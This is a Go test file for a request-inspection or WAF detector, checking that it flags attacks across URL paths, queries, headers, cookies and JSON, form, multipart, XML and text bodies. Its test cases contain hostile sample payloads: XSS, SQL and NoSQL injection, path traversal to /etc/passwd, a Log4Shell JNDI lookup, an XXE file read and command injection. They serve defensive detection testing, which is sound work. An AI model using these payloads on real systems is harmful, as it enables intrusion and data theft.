package detect

import (
	"bytes"
	"context"
	"mime/multipart"
	"net/http"
	"strings"
	"testing"
)

func TestInspect(t *testing.T) {
	mp := func(fields map[string]string, fileName, fileBody string) (string, []byte) {
		var buf bytes.Buffer
		w := multipart.NewWriter(&buf)
		for k, v := range fields {
			_ = w.WriteField(k, v)
		}
		if fileName != "" {
			fw, _ := w.CreateFormFile("upload", fileName)
			_, _ = fw.Write([]byte(fileBody))
		}
		_ = w.Close()
		return w.FormDataContentType(), buf.Bytes()
	}
	ctMP, bodyMP := mp(map[string]string{"comment": "<script>alert(1)</script>"}, "", "")
	ctFile, bodyFile := mp(map[string]string{"title": "holiday"}, "../../../etc/passwd", "plain bytes")
	ctFileBody, bodyFileBody := mp(map[string]string{"title": "holiday"}, "photo.jpg", "<script>alert(1)</script>")

	tests := []struct {
		name     string
		t        Target
		threat   bool
		location string
	}{
		{"clean", Target{Path: "/shop/items", RawQuery: "page=2&sort=asc"}, false, ""},
		{"path traversal", Target{Path: "/static/../../../../etc/passwd"}, true, "path"},
		{"query value", Target{Path: "/", RawQuery: "q=1%27%20or%20%271%27%3D%271"}, true, "query:q"},
		{"second value of a key", Target{Path: "/", RawQuery: "id=1&id=2%20UNION%20SELECT%20null,null--"}, true, "query:id"},
		{"query key", Target{Path: "/", RawQuery: "__proto__[admin]=1"}, true, "query-key"},
		{"excluded param", Target{Path: "/", RawQuery: "html=%3Cscript%3Ealert(1)%3C/script%3E",
			Exclude: Exclusions{Params: []string{"html"}}}, false, ""},
		{"header", Target{Path: "/", Header: http.Header{"X-Api-Version": {"${jndi:ldap://x.test/a}"}}}, true, "header:X-Api-Version"},
		{"user agent scanner", Target{Path: "/", Header: http.Header{"User-Agent": {"sqlmap/1.8"}}}, true, "header:User-Agent"},
		{"default excluded header", Target{Path: "/", Header: http.Header{"Accept": {"<script>alert(1)</script>"}}}, false, ""},
		{"route excluded header", Target{Path: "/", Header: http.Header{"X-Html": {"<script>alert(1)</script>"}},
			Exclude: Exclusions{Headers: []string{"x-html"}}}, false, ""},
		{"cookie value", Target{Path: "/", Header: http.Header{"Cookie": {"theme=dark; sid=x' OR '1'='1"}}}, true, "cookie:sid"},
		{"form body", Target{Path: "/", ContentType: "application/x-www-form-urlencoded",
			Body: []byte("name=bob&bio=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E")}, true, "body:form:bio"},
		{"json nested value", Target{Path: "/", ContentType: "application/json",
			Body: []byte(`{"user":{"profile":{"bio":"x' UNION SELECT password FROM users--"}}}`)}, true, "body:json:user.profile.bio"},
		{"json array value", Target{Path: "/", ContentType: "application/json; charset=utf-8",
			Body: []byte(`{"tags":["ok","../../../../etc/shadow"]}`)}, true, "body:json:tags.1"},
		{"json key", Target{Path: "/", ContentType: "application/json",
			Body: []byte(`{"a":{"__proto__":{"isAdmin":true}}}`)}, true, "body:json-key"},
		{"json escaped value", Target{Path: "/", ContentType: "application/json",
			Body: []byte(`{"q":"\u003cscript\u003ealert(1)\u003c/script\u003e"}`)}, true, "body:json:q"},
		{"json excluded field", Target{Path: "/", ContentType: "application/json",
			Body: []byte(`{"html":"<script>alert(1)</script>"}`), Exclude: Exclusions{BodyFields: []string{"html"}}}, false, ""},
		{"json operator key", Target{Path: "/", ContentType: "application/json",
			Body: []byte(`{"user":"admin","password":{"$ne":null}}`)}, true, "body:json-key"},
		{"json clean", Target{Path: "/", ContentType: "application/json",
			Body: []byte(`{"name":"Widget","price":12.5,"tags":["a","b"],"ok":true,"n":null}`)}, false, ""},
		{"invalid json falls back to text", Target{Path: "/", ContentType: "application/json",
			Body: []byte(`not json <script>alert(1)</script>`)}, true, "body:text"},
		{"multipart field", Target{Path: "/", ContentType: ctMP, Body: bodyMP}, true, "body:multipart:comment"},
		{"multipart file name", Target{Path: "/", ContentType: ctFile, Body: bodyFile}, true, "body:multipart-filename:upload"},
		{"multipart file content not inspected", Target{Path: "/", ContentType: ctFileBody, Body: bodyFileBody}, false, ""},
		{"xml", Target{Path: "/", ContentType: "application/xml",
			Body: []byte(`<?xml version="1.0"?><!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>`)}, true, "body:xml"},
		{"text", Target{Path: "/", ContentType: "text/plain", Body: []byte("hello; cat /etc/passwd")}, true, "body:text"},
		{"untyped form-shaped body", Target{Path: "/", Body: []byte("cmd=gunzip -c /var/log/auth.log.gz")}, true, "body:form:cmd"},
		{"untyped json body", Target{Path: "/", Body: []byte(`{"a":{"$where":"sleep(1000)"}}`)}, true, "body:json-key"},
	}
	d := newTestDetector(t)
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			var before []byte
			if tc.t.Body != nil {
				before = bytes.Clone(tc.t.Body)
			}
			r := d.Inspect(context.Background(), &tc.t)
			if r.IsThreat != tc.threat {
				t.Fatalf("IsThreat = %v, want %v (%+v)", r.IsThreat, tc.threat, r)
			}
			if tc.threat && (r.Context != tc.location || r.Threats[0].Location != tc.location) {
				t.Fatalf("location = %q / %+v, want %q", r.Context, r.Threats, tc.location)
			}
			if before != nil && !bytes.Equal(before, tc.t.Body) {
				t.Fatal("Inspect modified the body")
			}
		})
	}
}

// TestInspectLargeBody: an attack deep inside a large body is found as long as it is
// within the request budget; nothing is skipped because the body is large.
func TestInspectLargeBody(t *testing.T) {
	d := newTestDetector(t)
	pad := strings.Repeat("All quiet on the western front. ", 6000) // ~190 KB
	body := []byte(pad + "<script>alert(document.cookie)</script>")
	r := d.Inspect(context.Background(), &Target{Path: "/", ContentType: "text/plain", Body: body})
	if !r.IsThreat || r.Category != "xss" {
		t.Fatalf("attack at ~190 KB not found: %+v", r)
	}
	// Past the budget the request is not scanned further (documented limit).
	small, err := New(Config{MaxRequestBytes: 64 << 10})
	if err != nil {
		t.Fatal(err)
	}
	if small.Inspect(context.Background(), &Target{Path: "/", ContentType: "text/plain", Body: body}).IsThreat {
		t.Fatal("found beyond the request budget")
	}
}

// TestInspectWindowStraddle: an attack across the boundary of two inspection windows
// is still seen whole thanks to the overlap.
func TestInspectWindowStraddle(t *testing.T) {
	d := newTestDetector(t)
	const attack = "' UNION SELECT password FROM users--"
	pad := strings.Repeat("x", 10000-len(attack)/2)
	body := []byte(pad + attack + " tail")
	r := d.Inspect(context.Background(), &Target{Path: "/", ContentType: "text/plain", Body: body})
	if !r.IsThreat {
		t.Fatalf("straddling attack missed: %+v", r)
	}
}

func TestInspectCleanGETAllocs(t *testing.T) {
	if raceEnabled {
		t.Skip("allocation counts are not meaningful under the race detector")
	}
	d := newTestDetector(t)
	tg := cleanGET()
	ctx := context.Background()
	d.Inspect(ctx, tg) // warm the pool
	if n := testing.AllocsPerRun(200, func() { d.Inspect(ctx, tg) }); n > 1 {
		t.Errorf("clean GET allocations = %v, want ≤ 1", n)
	}
}

func TestInspectContextCancelled(t *testing.T) {
	d := newTestDetector(t)
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	r := d.Inspect(ctx, &Target{Path: "/", RawQuery: "q=%27%20or%201=1--"})
	if r.IsThreat {
		t.Fatal("a cancelled inspection reported a threat")
	}
}

// TestCleanGETRunsFewRegexes guards the hot path: a browser-like GET must be decided
// almost entirely by the prefilter (a few cheap anchored tails at most).
func TestCleanGETRunsFewRegexes(t *testing.T) {
	d := newTestDetector(t)
	d.Inspect(context.Background(), cleanGET())
	var n uint64
	for _, s := range d.Stats() {
		n += s.Executions
	}
	if n > 4 {
		for _, s := range d.Stats() {
			if s.Executions > 0 {
				t.Logf("%s: %d", s.ID, s.Executions)
			}
		}
		t.Fatalf("%d regex executions for a clean GET, want ≤ 4", n)
	}
}

func TestInspectDeepJSON(t *testing.T) {
	d := newTestDetector(t)
	deep := strings.Repeat(`{"a":`, 5000) + `"<script>alert(1)</script>"` + strings.Repeat("}", 5000)
	r := d.Inspect(context.Background(), &Target{Path: "/", ContentType: "application/json", Body: []byte(deep)})
	if !r.IsThreat {
		t.Fatalf("attack under 5000 levels of nesting missed: %+v", r)
	}
	flat := strings.Repeat(`[`, 20000) + strings.Repeat(`"x",`, 1000) + `"y"` + strings.Repeat(`]`, 20000)
	if r := d.Inspect(context.Background(), &Target{Path: "/", ContentType: "application/json", Body: []byte(flat)}); r.IsThreat {
		t.Fatalf("clean deep array flagged: %+v", r)
	}
}
